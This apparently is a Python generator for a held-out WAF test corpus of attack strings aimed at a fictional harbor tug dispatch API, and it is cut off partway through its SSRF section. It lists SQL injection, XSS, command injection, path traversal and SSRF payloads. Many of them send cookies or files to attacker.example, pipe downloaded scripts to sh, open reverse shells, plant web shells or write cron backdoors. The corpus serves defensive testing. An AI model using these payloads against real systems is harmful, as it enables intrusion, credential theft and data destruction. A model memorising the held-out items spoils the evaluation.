#!/usr/bin/env python3
"""Attack values for the harbortugs held-out WAF corpus (harbor tug dispatch API).

Standard library only. Writes attacks.jsonl next to this file.
Nearly every value is a hand-written literal. The few computed values either join a
hand-written theme prefix to a hand-written payload, or apply ONE encoding (URL-encoding)
to a hand-written payload. Attacker infrastructure: attacker.example, 203.0.113.0/24,
198.51.100.0/24 only. All secrets are fake.
"""
import json
import os
import random
from urllib.parse import quote

SEED = 19202

# ============================================================== SQLi (80)
SQLI = [
    ("note-union-select", "Assist MV Nordic Star inbound' UNION SELECT login, password_hash FROM dispatch_users-- -"),
    ("search-boolean", "svea' OR '1'='1"),
    ("plain-boolean", "' OR 1=1-- -"),
    ("jobid-number-boolean", "20814 OR 1=1"),
    ("berth-mysql-sleep", "Berth 12N' AND SLEEP(6)-- -"),
    ("note-pg-sleep-stacked", "job 2231 done'; SELECT pg_sleep(10)--"),
    ("vessel-mssql-waitfor", "MV Orion'; WAITFOR DELAY '0:0:8'--"),
    ("pilot-oracle-pipe-delay", "Capt. Silva' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('x',9)--"),
    ("vessel-oracle-union-banner", "Stena Lagan' UNION SELECT NULL, banner FROM v$version--"),
    ("search-sqlite-master", "ajax' UNION SELECT name, sql FROM sqlite_master--"),
    ("fuel-mysql-extractvalue", "BDN 88123' AND EXTRACTVALUE(1, CONCAT(0x7e, (SELECT @@version)))-- -"),
    ("tug-mysql-updatexml", "Hercules' AND UPDATEXML(1, CONCAT(0x7e, (SELECT user())), 1)-- -"),
    ("note-pg-cast-error", "chafe at 30 m' AND 1=CAST((SELECT current_user) AS int)--"),
    ("customer-mssql-convert-error", "Inchcape' AND 1=CONVERT(int, (SELECT TOP 1 name FROM sys.databases))--"),
    ("note-stacked-drop", "Harbour Queen'); DROP TABLE tow_logs;--"),
    ("crew-stacked-insert-admin", "Ngozi'; INSERT INTO users(login, role, pw) VALUES ('ops2', 'admin', 'x');--"),
    ("note-mssql-xp-cmdshell", "line ok'; EXEC master..xp_cmdshell 'whoami';--"),
    ("vessel-mssql-xp-dirtree-oob", "Ocean Grace'; EXEC master..xp_dirtree '\\\\attacker.example\\tug';--"),
    ("search-mysql-load-file", "berth' UNION SELECT LOAD_FILE('/etc/passwd'), 2-- -"),
    ("note-mysql-into-outfile", "' UNION SELECT '<?php system($_GET[\"c\"]); ?>', 2 INTO OUTFILE '/var/www/html/tug.php'-- -"),
    ("note-pg-copy-program", "fuel ok'; COPY (SELECT 1) TO PROGRAM 'curl -s http://attacker.example/p | sh';--"),
    ("vessel-oracle-utl-http", "Maersk Emden'||UTL_HTTP.REQUEST('http://attacker.example/o?u='||(SELECT user FROM dual))||'"),
    ("search-comment-as-space", "svea'/**/UNION/**/SELECT/**/login,pw/**/FROM/**/crew_accounts--"),
    ("search-mysql-versioned-comment", "ajax' /*!50000UNION*/ /*!50000SELECT*/ 1, @@hostname, 3-- -"),
    ("search-case-mixing", "hercules' uNiOn SeLeCt NuLl, vErSiOn()--"),
    ("plain-hash-comment", "' or 1=1#"),
    ("sort-case-when-blind", "(CASE WHEN (SELECT SUBSTR(pw,1,1) FROM users WHERE login='ops')='a' THEN eta ELSE berth END)"),
    ("sort-mysql-subquery-sleep", "eta, (SELECT 1 FROM (SELECT SLEEP(5)) x)"),
    ("bp-number-union", "75 UNION SELECT 1, @@version, 3, 4"),
    ("pilot-blind-substring", "O''Neill' AND SUBSTRING((SELECT pw FROM users WHERE login='dispatch'),1,1)='k'-- -"),
    ("tug-blind-ascii", "Titan' AND ASCII(SUBSTR((SELECT user()),1,1))>77-- -"),
    ("berth-mysql-benchmark", "Quay 3' AND BENCHMARK(8000000, SHA1('tug'))-- -"),
    ("jobid-mysql-if-sleep", "20811' AND IF(1=1, SLEEP(5), 0) AND 'a'='a"),
    ("crew-like-wildcard", "Ana' OR login LIKE '%admin%'-- "),
    ("vessel-mssql-having", "Grande Lagos' HAVING 1=1--"),
    ("search-information-schema", "pilot' UNION SELECT table_name, column_name FROM information_schema.columns-- -"),
    ("jobid-group-concat", "-1 UNION SELECT group_concat(login, 0x3a, pw), 2 FROM users"),
    ("note-pg-concat-subquery", "escort'||(SELECT version())||'"),
    ("note-pg-dollar-quote", "ok'; SELECT $$tug$$ || pg_read_file('/etc/passwd');--"),
    ("customer-mssql-openrowset", "'; SELECT * FROM OPENROWSET('SQLOLEDB', 'server=203.0.113.7;uid=sa;pwd=x', 'SELECT 1');--"),
    ("plain-double-url", "%2527%2520OR%25201%253D1--%2520-"),
    ("search-fullwidth-nfkc", "svea＇ ＯＲ １＝１--"),
    ("vessel-backslash-quote", "Sea Dragon\\' OR 1=1-- -"),
    ("tug-sqlite-randomblob", "Brenda' AND 1=LIKE('ABC', UPPER(HEX(RANDOMBLOB(300000000/2))))--"),
    ("note-mssql-char-exec", "'; DECLARE @q varchar(60); SET @q=CHAR(119)+CHAR(104)+CHAR(111)+CHAR(97)+CHAR(109)+CHAR(105); EXEC master..xp_cmdshell @q;--"),
    ("login-mysql-hex-string", "' UNION SELECT 0x6f707331, 0x61646d696e-- -"),
    ("search-no-spaces", "ajax'or(1)=(1)--"),
    ("login-admin-comment", "admin'--"),
    ("search-x-equals-x", "' OR 'x'='x"),
    ("crew-oracle-rownum", "Björn' AND 1=(SELECT COUNT(*) FROM all_users WHERE ROWNUM=1)--"),
    ("note-oracle-ctxsys", "' AND 1=CTXSYS.DRITHSX.SN(1, (SELECT user FROM dual))--"),
    ("fuel-mysql-floor-rand", "MGO' AND (SELECT 1 FROM (SELECT COUNT(*), CONCAT(version(), FLOOR(RAND(0)*2)) x FROM information_schema.tables GROUP BY x) a)-- -"),
    ("note-pg-copy-from-file", "'; CREATE TABLE t(c text); COPY t FROM '/etc/passwd'; SELECT * FROM t;--"),
    ("limit-mysql-procedure-analyse", "10 PROCEDURE ANALYSE(EXTRACTVALUE(1, CONCAT(0x7e, version())), 1)"),
    ("jobid-pg-stacked-sleep", "20812; SELECT pg_sleep(7)"),
    ("plain-mssql-waitfor", "1; WAITFOR DELAY '0:0:6'--"),
    ("berth-oracle-chr-concat", "Berth 9' UNION SELECT CHR(65)||CHR(66), NULL FROM dual--"),
    ("search-pg-string-agg", "' UNION SELECT string_agg(usename, ','), NULL FROM pg_user--"),
    ("search-mssql-for-xml", "' UNION SELECT (SELECT name + ',' FROM master..sysdatabases FOR XML PATH('')), NULL--"),
    ("fuel-number-mysql-sleep", "18.4 AND SLEEP(5)"),
    ("tug-mysql-rlike", "Ajax' AND 1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))-- -"),
    ("note-sqlite-attach", "'; ATTACH DATABASE '/var/www/html/t.php' AS t; CREATE TABLE t.p (x text); INSERT INTO t.p VALUES ('<?php system($_GET[0]); ?>');--"),
    ("crew-mssql-stacked-update", "Kim'; UPDATE users SET role='admin' WHERE login='kim';--"),
    ("vessel-pg-lo-import", "'; SELECT lo_import('/etc/passwd');--"),
    ("search-mysql-sys-schema", "' UNION SELECT table_name, 2 FROM sys.schema_table_statistics-- -"),
    ("pilot-mysql-double-dash-plus", "Van der Berg' OR 2>1 -- +"),
    ("jobid-boolean-false-true", "20814 AND 1=2 UNION ALL SELECT NULL, NULL, concat(login, ':', pw) FROM users"),
    ("search-json-mysql-json-extract", "' OR JSON_EXTRACT('{\"a\":1}', '$.a')=1-- -"),
    ("incident-oracle-xmltype-oob", "' AND 1=(SELECT EXTRACTVALUE(xmltype('<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % x SYSTEM \"http://attacker.example/x\"> %x;]>'), '/l') FROM dual)--"),
    ("vessel-mysql-sleep-hand-urlencoded", "Nordic%27%20AND%20SLEEP%285%29--%20-"),
    ("crew-mssql-union-all-logins", "Raj' UNION ALL SELECT NULL, name, password_hash FROM sys.sql_logins--"),
    ("note-sqlite-union-hex", "x' UNION SELECT 1, hex(group_concat(pw)) FROM users--"),
    ("berth-mssql-exec-concat-waitfor", "'; EXEC('SEL'+'ECT 1'); IF (SELECT SYSTEM_USER)='sa' WAITFOR DELAY '0:0:5'--"),
]
SQLI_PREFIXES = ["Tug Svea job 20814 note: ", "Berth 7 east / ", "ETA 0600, pilot Capt. Silva ", "fuel BDN #88124 remark: "]
SQLI_PAYLOADS = [
    ("union-select", "x' UNION SELECT login, pw FROM users-- -"),
    ("boolean", "x' OR 'a'='a"),
    ("pg-sleep", "x'; SELECT pg_sleep(6)--"),
    ("mssql-waitfor", "x'; WAITFOR DELAY '0:0:6'--"),
]
SQLI_ENCODE = [
    ("search-union-select+urlencode", "svea' UNION SELECT login, pw FROM users-- -"),
    ("jobid-sleep+urlencode", "20814' AND SLEEP(5)-- -"),
    ("search-boolean+urlencode", "' OR '1'='1'-- -"),
]

# ============================================================== XSS (78)
XSS = [
    ("note-script-cookie", "Made fast fwd <script>fetch('https://attacker.example/c?d='+document.cookie)</script>"),
    ("plain-script-alert", "<script>alert(document.domain)</script>"),
    ("vessel-img-onerror", "MV Nordic Star<img src=x onerror=alert(1)>"),
    ("note-svg-onload", "chafe at 30 m <svg onload=alert(document.cookie)>"),
    ("berth-attr-break-onmouseover", "Berth 12N\" onmouseover=\"alert(1)\" x=\""),
    ("crew-attr-break-single", "O'Neill' autofocus onfocus='alert(1)"),
    ("note-details-ontoggle", "<details open ontoggle=alert(1)>pilot notes</details>"),
    ("customer-body-onload", "<body onload=location='//attacker.example/?'+document.cookie>"),
    ("note-input-autofocus", "line ok <input autofocus onfocus=alert(1)>"),
    ("link-javascript-url", "javascript:alert(document.cookie)"),
    ("markdown-link-javascript", "[timesheet PDF](javascript:alert(1))"),
    ("markdown-link-entity-javascript", "[BDN scan](jav&#x09;ascript:alert(1))"),
    ("note-iframe-srcdoc", "<iframe srcdoc=\"&lt;script&gt;alert(parent.document.cookie)&lt;/script&gt;\"></iframe>"),
    ("note-a-href-entities", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">rota v3</a>"),
    ("note-data-uri-iframe", "<iframe src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></iframe>"),
    ("angular-csti-constructor", "Job for {{constructor.constructor('alert(document.cookie)')()}}"),
    ("vue-csti", "Tug {{_c.constructor('alert(1)')()}}"),
    ("note-mxss-math-style", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>"),
    ("note-noscript-mxss", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>"),
    ("vessel-script-close-json", "</script><script>alert(1)</script>"),
    ("js-string-break", "Svea';alert(document.cookie);//"),
    ("js-string-break-double", "Ajax\";fetch('//attacker.example/'+localStorage.token);//"),
    ("js-template-literal", "${alert(document.domain)}"),
    ("note-case-mixing", "<ScRiPt>alert(1)</sCrIpT>"),
    ("note-svg-animate-href", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>open log</text></a></svg>"),
    ("note-iframe-onload", "<iframe/onload=alert(1)>"),
    ("note-frameset-onload", "<frameset onload=alert(1)>"),
    ("note-video-source-onerror", "<video><source onerror=\"alert(1)\"></video>"),
    ("note-audio-onerror", "<audio src=x onerror=alert(1)>"),
    ("note-marquee-onstart", "<marquee onstart=alert(1)>tide window</marquee>"),
    ("note-form-action", "<form action=\"javascript:alert(1)\"><button>Confirm tug</button></form>"),
    ("note-button-formaction", "<button formaction=javascript:alert(1)>send</button>"),
    ("note-meta-refresh-redirect", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/login\">"),
    ("note-base-href-hijack", "<base href=\"https://attacker.example/\">"),
    ("note-iframe-javascript-src", "<iframe src=javascript:alert(document.domain)>"),
    ("note-svg-animate-onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("note-img-src-no-quotes-tab", "<img\tsrc=x\tonerror=alert(1)>"),
    ("note-img-slash-separator", "<img/src=x/onerror=alert(1)>"),
    ("note-svg-script-entity", "<svg><script>&#97;lert(1)</script></svg>"),
    ("note-unicode-escape-js", "<script>\\u0061lert(1)</script>"),
    ("note-eval-atob", "<img src=x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>"),
    ("note-fromcharcode", "<img src=x onerror=alert(String.fromCharCode(88,83,83))>"),
    ("note-backtick-call", "<img src=x onerror=alert`1`>"),
    ("note-top-bracket", "<svg onload=top['al'+'ert'](1)>"),
    ("note-textarea-break", "</textarea><script>alert(1)</script>"),
    ("note-title-break", "</title><img src=x onerror=alert(1)>"),
    ("note-style-break", "</style><svg onload=alert(1)>"),
    ("note-comment-break", "--><img src=x onerror=alert(1)>"),
    ("note-cdata-svg", "<svg><![CDATA[><image xlink:href=\"]]><img src=x onerror=alert(1)>\"></svg>"),
    ("customer-keylogger", "<script>document.onkeypress=function(e){new Image().src='//attacker.example/k?'+e.key}</script>"),
    ("note-session-steal-fetch", "<img src=x onerror=\"fetch('/api/me').then(r=>r.text()).then(t=>fetch('//attacker.example/s',{method:'POST',body:t}))\">"),
    ("note-script-src-remote", "<script src=//attacker.example/x.js></script>"),
    ("note-nested-tag-strip", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("note-custom-tag-autofocus", "<xss onfocus=alert(1) autofocus tabindex=1>"),
    ("note-onpointerenter", "<div onpointerenter=alert(1) style=position:fixed;inset:0>Svea</div>"),
    ("note-onanimationstart", "<style>@keyframes k{}</style><div style=animation-name:k onanimationstart=alert(1)></div>"),
    ("note-body-onpageshow", "<body onpageshow=alert(1)>"),
    ("entity-decoded-sink-img", "&lt;img src=x onerror=alert(1)&gt;"),
    ("note-hex-entity-attr", "<img src=x onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;&#x28;&#x31;&#x29;>"),
    ("note-svg-foreignobject-srcdoc", "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></iframe></foreignObject></svg>"),
    ("markdown-image-onerror", "![hull photo](x\" onerror=\"alert(1))"),
    ("markdown-html-inline", "**Handover:** winch ok <img src=x onerror=alert(1)>"),
    ("csv-cell-html", "Svea,20811,<svg/onload=alert(1)>,2.5"),
    ("note-srcset-onerror", "<img srcset=\",,,,\" onerror=alert(1)>"),
    ("note-jquery-selector", "#<img src=x onerror=alert(1)>"),
    ("url-param-javascript-redirect", "javascript://%0aalert(document.cookie)"),
    ("note-svg-discard-onbegin", "<svg><discard onbegin=alert(1)>"),
    ("note-dom-clobber", "<form id=config><input name=apiUrl value=https://attacker.example/></form>"),
    ("note-img-onerror-dynamic-import", "<img src=x onerror=import('//attacker.example/m.js')>"),
    ("note-a-href-leading-space-javascript", "<a href=\"  javascript:alert(1)\">VHF log</a>"),
    ("note-svg-xlink-javascript", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"10\" y=\"20\">rota</text></a></svg>"),
    ("note-polyglot", "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/<sVg/oNloAd=alert()//>"),
]
XSS_PREFIXES = ["Incident #118: ", "Handover Ajax — ", "Comment from agent: ", "Berth 9 note "]
XSS_PAYLOADS = [
    ("img-onerror", "<img src=x onerror=alert(document.cookie)>"),
    ("svg-onload", "<svg/onload=fetch('//attacker.example/?'+document.cookie)>"),
]
XSS_ENCODE = [
    ("search-script+urlencode", "<script>alert(1)</script>"),
    ("search-img-onerror+urlencode", "\"><img src=x onerror=alert(document.domain)>"),
]

# ============================================================== CMDi (70)
CMDI = [
    ("export-name-semicolon-id", "svea_0504.csv; id"),
    ("plain-semicolon", "; cat /etc/passwd"),
    ("ping-host-and-whoami", "vts.harbour.local && whoami"),
    ("ping-host-pipe-nc", "10.0.4.12 | nc 203.0.113.9 4444 -e /bin/sh"),
    ("filename-dollar-paren-curl", "rota_$(curl -s http://attacker.example/r.sh | sh).xlsx"),
    ("filename-backtick", "fuel_`id`.csv"),
    ("note-newline-command", "tug report\nwget -qO- http://attacker.example/b | bash"),
    ("host-or-operator", "berth9.local || curl attacker.example/x|sh"),
    ("ping-reverse-shell-bash", "127.0.0.1; bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'"),
    ("filename-ifs", "log.csv;cat${IFS}/etc/shadow"),
    ("filename-brace-expansion", "log.csv;{cat,/etc/passwd}"),
    ("filename-glob-path", "x.csv;/???/c?t /???/p??s??"),
    ("filename-ansi-c-quote", "x.csv;$'\\x69\\x64'"),
    ("filename-quote-split", "x.csv;w'h'o'am'i"),
    ("filename-backslash-split", "x.csv;w\\ho\\am\\i"),
    ("host-windows-ampersand", "pilot-pc & type C:\\Windows\\win.ini"),
    ("host-windows-pipe", "10.0.0.8 | dir C:\\Users\\Administrator\\Desktop"),
    ("host-powershell-iex", "10.0.0.8; powershell -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/a.ps1')\""),
    ("host-powershell-enc", "10.0.0.8 & powershell -enc dwBoAG8AYQBtAGkA"),
    ("host-cmd-certutil", "10.0.0.8 & certutil -urlcache -split -f http://attacker.example/t.exe %TEMP%\\t.exe & %TEMP%\\t.exe"),
    ("host-windows-caret", "10.0.0.8 & w^h^o^a^m^i"),
    ("host-windows-comspec", "10.0.0.8 & %COMSPEC% /c type %SystemRoot%\\win.ini"),
    ("curl-argument-output", "--output /var/www/html/tug.php http://attacker.example/shell.txt"),
    ("curl-argument-config", "-K /etc/shadow"),
    ("wget-argument-post-file", "--post-file=/etc/passwd http://attacker.example/in"),
    ("ssh-argument-proxycommand", "-oProxyCommand=sh -c 'id > /tmp/pwn'"),
    ("tar-argument-checkpoint", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh"),
    ("find-argument-exec", "-name *.csv -exec sh -c 'curl attacker.example/$(whoami)' ;"),
    ("git-argument-upload-pack", "--upload-pack=touch /tmp/pwned"),
    ("zip-argument-tt", "-T -TT 'sh -c id'"),
    ("rsync-argument-e", "-e 'sh -c id' x:/"),
    ("sendmail-argument-x", "ops@harbortugs.example.com -OQueueDirectory=/tmp -X/var/www/html/log.php"),
    ("convert-imagemagick-pipe", "|curl http://attacker.example/i|sh"),
    ("gzip-argument-stdout", "report.csv --to-stdout /etc/shadow"),
    ("note-dollar-paren-nested", "line parted $(echo aWQ= | base64 -d | sh)"),
    ("vessel-name-semicolon-rm", "Ocean Grace; rm -rf /var/lib/dispatch"),
    ("tide-host-and-sleep", "tide.harbour.local && sleep 10"),
    ("vessel-newline-urlencoded", "Nordic%0aid"),
    ("host-urlencoded-semicolon", "127.0.0.1%3Bcat%20%2Fetc%2Fpasswd"),
    ("host-perl-oneliner", "127.0.0.1; perl -e 'use Socket;$i=\"203.0.113.9\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));connect(S,sockaddr_in($p,inet_aton($i)));open(STDIN,\">&S\");exec(\"/bin/sh -i\")'"),
    ("host-python-oneliner", "127.0.0.1; python3 -c 'import os;os.system(\"id\")'"),
    ("host-nc-mkfifo", "127.0.0.1; rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.4 9001 >/tmp/f"),
    ("filename-redirect-write", "x.csv; echo '* * * * * root curl attacker.example/c|sh' > /etc/cron.d/tug"),
    ("filename-sh-dev-tcp-exfil", "x.csv; cat /etc/passwd > /dev/tcp/203.0.113.9/80"),
    ("filename-dns-exfil", "x.csv; nslookup $(whoami).attacker.example"),
    ("filename-background-amp", "x.csv & curl -d @/etc/passwd attacker.example &"),
    ("note-process-substitution", "ok; bash <(curl -s attacker.example/p)"),
    ("ping-count-injection", "-c 1 127.0.0.1; id"),
    ("host-tab-separator", "127.0.0.1;\tcat\t/etc/hosts"),
    ("host-ifs-and-var", "127.0.0.1;a=ca;b=t;$a$b${IFS}/etc/passwd"),
    ("host-base64-pipe", "127.0.0.1;echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh"),
    ("host-rev-string", "127.0.0.1;$(rev<<<'di')"),
    ("host-env-path-substring", "127.0.0.1;${PATH:0:1}bin${PATH:0:1}id"),
    ("filename-questionmark-glob", "a;/bin/c?t /e??/pa??wd"),
    ("host-powershell-invoke-webrequest", "10.0.0.8; iwr http://attacker.example/x -OutFile C:\\ProgramData\\x.exe; Start-Process C:\\ProgramData\\x.exe"),
    ("host-cmd-wmic", "10.0.0.8 & wmic process call create \"cmd /c whoami > C:\\inetpub\\wwwroot\\w.txt\""),
    ("host-cmd-mshta", "10.0.0.8 | mshta http://attacker.example/x.hta"),
    ("host-cmd-bitsadmin", "10.0.0.8 && bitsadmin /transfer j http://attacker.example/x.exe C:\\Users\\Public\\x.exe"),
    ("filename-semicolon-exiftool-config", "hull.jpg; exiftool -config /tmp/evil.cfg hull.jpg"),
    ("shell-single-quote-break-awk", "Svea'; awk 'BEGIN{system(\"id\")}'; echo '"),
    ("host-newline-hand-urlencoded", "127.0.0.1%0acat%20/etc/passwd"),
    ("filename-busybox-nc", "x.csv;busybox nc 203.0.113.9 4444 -e sh"),
    ("host-powershell-irm-iex", "10.0.0.8; Invoke-Expression (Invoke-RestMethod http://attacker.example/p.ps1)"),
    ("note-php-backtick-shell", "ok|`curl attacker.example|sh`"),
]
CMDI_PREFIXES = ["export svea_0504.csv", "ping vts.harbour.local", "AIS host 10.0.4.12", "tide-gauge-3.local"]
CMDI_PAYLOADS = [
    ("semicolon-id", "; id"),
    ("and-curl-sh", " && curl -s http://attacker.example/s | sh"),
    ("dollar-paren-wget", " $(wget -qO- 203.0.113.9/x|sh)"),
]
CMDI_ENCODE = [
    ("host-semicolon-id+urlencode", "127.0.0.1; id"),
    ("filename-pipe-nc+urlencode", "x.csv | nc 203.0.113.9 4444 -e /bin/sh"),
]

# ============================================================== Traversal (50)
TRAV = [
    ("attachment-dotdot-passwd", "../../../../../../etc/passwd"),
    ("attachment-url-slash", "..%2f..%2f..%2f..%2fetc%2fpasswd"),
    ("attachment-url-dots", "%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/shadow"),
    ("attachment-full-urlencode", "%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("attachment-double-url", "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("attachment-overlong-utf8", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("attachment-overlong-slash", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
    ("attachment-u-encoding", "%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd"),
    ("windows-backslash-win-ini", "..\\..\\..\\..\\Windows\\win.ini"),
    ("windows-mixed-slashes", "..\\../..\\../windows/system32/drivers/etc/hosts"),
    ("windows-url-backslash", "..%5c..%5c..%5c..%5cwindows%5cwin.ini"),
    ("filter-bypass-quad-dot", "....//....//....//....//etc/passwd"),
    ("filter-bypass-dot-dot-backslash-double", "....\\\\....\\\\....\\\\windows\\\\win.ini"),
    ("tomcat-semicolon", "/docs/..;/..;/manager/html"),
    ("attachment-null-byte", "../../../../etc/passwd%00.pdf"),
    ("attachment-absolute-etc", "/etc/shadow"),
    ("attachment-absolute-proc-environ", "/proc/self/environ"),
    ("attachment-proc-cmdline-fd", "../../../../proc/self/fd/3"),
    ("attachment-ssh-key", "../../../../home/ops/.ssh/id_rsa"),
    ("attachment-web-inf", "../../WEB-INF/web.xml"),
    ("attachment-dotenv", "../../../.env"),
    ("attachment-git-config", "../../.git/config"),
    ("attachment-aws-creds", "../../../../root/.aws/credentials"),
    ("attachment-k8s-token", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("zipslip-entry-jsp", "../../../../opt/tomcat/webapps/ROOT/tug.jsp"),
    ("zipslip-entry-cron", "../../../../../etc/cron.d/tugsync"),
    ("zipslip-windows-entry", "..\\..\\..\\inetpub\\wwwroot\\tug.aspx"),
    ("report-path-prefix-dotdot", "reports/2024/../../../../etc/passwd"),
    ("report-path-prefix-encoded", "docs/certificates/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/hosts"),
    ("photo-path-incident", "incidents/2024/118/../../../../../var/log/auth.log"),
    ("export-path-windows-unc", "\\\\attacker.example\\share\\tug.xlsx"),
    ("php-filter-wrapper", "php://filter/convert.base64-encode/resource=../config/database.php"),
    ("file-scheme-path", "file:///etc/passwd"),
    ("windows-drive-absolute", "C:\\Windows\\System32\\config\\SAM"),
    ("windows-alt-data-stream", "..\\..\\web.config::$DATA"),
    ("windows-short-name", "..\\..\\..\\PROGRA~1\\Dispatch\\appsettings.json"),
    ("attachment-dot-slash-mix", "./.././.././.././etc/passwd"),
    ("attachment-trailing-dot-win", "..\\..\\..\\boot.ini."),
    ("attachment-unicode-fullwidth", "．．／．．／．．／etc／passwd"),
    ("attachment-url-backslash-double", "%255c..%255c..%255cwindows%255cwin.ini"),
    ("template-name-dotdot", "../../../../usr/share/dispatch/templates/../../../../etc/passwd"),
    ("logfile-param", "/var/log/../../etc/shadow"),
    ("attachment-utf8-2byte-slash", "..%e0%80%af..%e0%80%afetc%e0%80%afpasswd"),
    ("nginx-alias-off-by-slash", "/static../app/settings.py"),
]
TRAV_PREFIXES = ["docs/certificates/", "incidents/2024/118/", "exports/svea/"]
TRAV_PAYLOADS = [("dotdot-passwd", "../../../../../etc/passwd"), ("dotdot-win-ini", "..\\..\\..\\..\\windows\\win.ini")]

# ============================================================== SSRF (50)
SSRF = [
    ("webhook-aws-metadata-creds", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("ais-feed-aws-userdata", "http://169.254.169.254/latest/user-data?vessel=NORDIC_STAR"),
    ("webhook-aws-imdsv2-token", "http://169.254.169.254/latest/api/token"),
    ("webhook-gcp-metadata", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("webhook-azure-metadata", "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"),
    ("webhook-alibaba-metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("webhook-oracle-cloud-metadata", "http://169.254.169.254/opc/v2/instance/"),
    ("webhook-aws-ipv6-metadata", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("ais-feed-localhost-admin", "http://127.0.0.1:8080/admin/users?tug=svea"),
    ("ais-feed-decimal-ip", "http://2130706433:8080/actuator/env"),
    ("ais-feed-hex-ip", "http://0x7f000001/server-status"),
    ("ais-feed-octal-ip", "http://0177.0.0.1:9000/"),
    ("ais-feed-short-ip", "http://127.1/metrics"),
    ("ais-feed-zero-ip", "http://0.0.0.0:6379/"),
    ("ais-feed-ipv6-loopback", "http://[::1]:8500/v1/agent/self"),
    ("ais-feed-ipv4-mapped-ipv6", "http://[::ffff:127.0.0.1]:2375/containers/json"),
    ("ais-feed-decimal-metadata", "http://2852039166/latest/meta-data/"),
    ("ais-feed-hex-dotted-metadata", "http://0xa9.0xfe.0xa9.0xfe/latest/meta-data/"),
    ("ais-feed-octal-metadata", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("ais-feed-mixed-metadata", "http://169.254.43518/latest/meta-data/"),
    ("webhook-userinfo-confusion", "http://hooks.shipping-agency.example.com@127.0.0.1:8080/internal/flush"),
    ("webhook-fragment-confusion", "http://127.0.0.1:8080#@hooks.shipping-agency.example.com/"),
    ("webhook-backslash-confusion", "http://hooks.shipping-agency.example.com\\@169.254.169.254/latest/meta-data/"),
    ("webhook-open-redirect", "https://attacker.example/r?to=http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("webhook-dns-rebinding", "http://7f000001.rebind.attacker.example:8080/admin"),
    ("webhook-gopher-redis", "gopher://127.0.0.1:6379/_CONFIG%20SET%20dir%20/var/spool/cron%0D%0ACONFIG%20SET%20dbfilename%20root%0D%0ASET%20x%20%22*%20*%20*%20*%20*%20curl%20attacker.example|sh%22%0D%0ASAVE%0D%0A"),
    ("webhook-gopher-smtp", "gopher://10.0.0.25:25/_HELO%20x%0D%0AMAIL%20FROM:<ops@harbortugs.example.com>%0D%0ARCPT%20TO:<victim@example.com>%0D%0ADATA%0D%0Ahi%0D%0A.%0D%0A"),
    ("webhook-dict-memcached", "dict://127.0.0.1:11211/stats"),
    ("webhook-file-scheme-localhost", "file://localhost/etc/shadow"),
    ("webhook-k8s-api", "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"),
    ("webhook-consul-internal", "http://consul.service.consul:8500/v1/kv/?recurse"),
    ("webhook-elasticsearch-rfc1918", "http://10.0.3.14:9200/_cat/indices?v"),
    ("webhook-router-rfc1918", "http://192.168.1.1/cgi-bin/config.exp"),
    ("webhook-docker-bridge", "http://172.17.0.1:2375/containers/json?all=1"),
    ("webhook-kubelet", "https://10.0.0.1:10250/pods"),
    ("webhook-etcd", "http://10.0.0.2:2379/v2/keys/?recursive=true"),
    ("webhook-enclosed-alnum", "http://①②⑦.⓪.⓪.①:8080/admin"),
    ("webhook-localhost-name", "http://localhost:5984/_all_dbs"),
    ("webhook-jar-scheme", "jar:http://attacker.example/x.jar!/"),
    ("webhook-ldap-scheme", "ldap://127.0.0.1:389/dc=harbortugs,dc=local??sub?(objectClass=*)"),
    ("webhook-tftp-scheme", "tftp://203.0.113.9/tug.bin"),
    ("webhook-azure-wireserver", "http://168.63.129.16/machine?comp=goalstate"),
    ("pdf-render-internal-admin", "http://dispatch-admin.internal/api/v1/users/export"),
    ("ais-feed-zero-short", "http://0/"),
    ("ais-feed-ipv6-unspecified", "http://[::]:80/"),
    ("ais-feed-url-encoded-host", "http://%31%32%37%2e%30%2e%30%2e%31:8080/admin"),
]
SSRF_ENCODE = [
